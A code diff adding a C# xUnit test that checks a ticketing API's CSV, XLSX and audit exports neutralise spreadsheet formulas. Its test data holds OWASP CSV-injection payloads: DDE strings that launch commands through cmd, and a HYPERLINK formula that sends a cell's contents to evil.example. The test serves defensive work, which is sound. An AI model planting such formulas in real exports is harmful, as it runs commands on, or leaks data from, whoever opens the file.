@@ -150,6 +150,47 @@ public sealed class PaperworkApiTests(SystemFixture system)
         Assert.Equal("455.5", mismatch.GetProperty("messageArgs").GetProperty("gauge").GetString());
     }
 
+    /// <summary>OWASP's CSV injection list, and the full-width forms a Chinese input method types.</summary>
+    public static readonly string[] Formulas =
+    [
+        "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Report\")", "＝1+1", "＠SUM(1,1)",
+    ];
+
+    [Fact]
+    public async Task TextThatASpreadsheetWouldRunIsShownAsTextInTheCsvAndTheExcelReportAndInTheAuditCsv()
+    {
+        using var op = await system.Operator();
+        foreach (var formula in Formulas)
+        {
+            (await op.PostAsJsonAsync("/api/tickets", new { title = formula, roomId = "lab-1" })).EnsureSuccessStatusCode();
+        }
+
+        var today = TimeZoneInfo.ConvertTime(system.Time.GetUtcNow(), TimeZoneInfo.FindSystemTimeZoneById("Asia/Shanghai")).ToString("yyyy-MM-dd");
+        var csv = await op.GetStringAsync($"/api/reports/daily?date={today}&format=csv");
+        foreach (var formula in Formulas)
+        {
+            var cell = formula.Contains('"') || formula.Contains(',') ? "\"'" + formula.Replace("\"", "\"\"") + "\"" : "'" + formula;
+            Assert.Contains("," + cell + ",", csv);
+        }
+
+        using var book = new MemoryStream(await op.GetByteArrayAsync($"/api/reports/daily?date={today}&format=xlsx"));
+        var titles = book.Query(useHeaderRow: true, sheetName: "报修 Tickets").Cast<IDictionary<string, object>>().Select(r => (string)r["标题 Title"]).ToList();
+        Assert.All(Formulas, formula => Assert.Contains("'" + formula, titles));
+
+        // A tab or a return before the formula is skipped by Excel and WPS: a sign-in with such a name is an audit line.
+        foreach (var name in new[] { "\t=1+1", "\r@SUM(1+1)" })
+        {
+            await system.Anonymous.PostAsJsonAsync("/api/auth/token", new { username = name, password = "whatever-1" });
+        }
+
+        using var admin = await system.SignIn("admin", SystemFixture.AdminPassword);
+        var audit = await admin.GetStringAsync("/api/audit?action=sign-in&format=csv&limit=5000");
+        Assert.Contains(",'\t=1+1,", audit);
+        Assert.Contains(",\"'\r@sum(1+1)\",", audit);
+        Assert.DoesNotContain(",\t=1+1,", audit);
+    }
+
     [Fact]
     public async Task TheDailyAndMonthlyReportsCountInspectionsFindingsAlertsAndTicketsAsJsonCsvAndXlsx()
     {
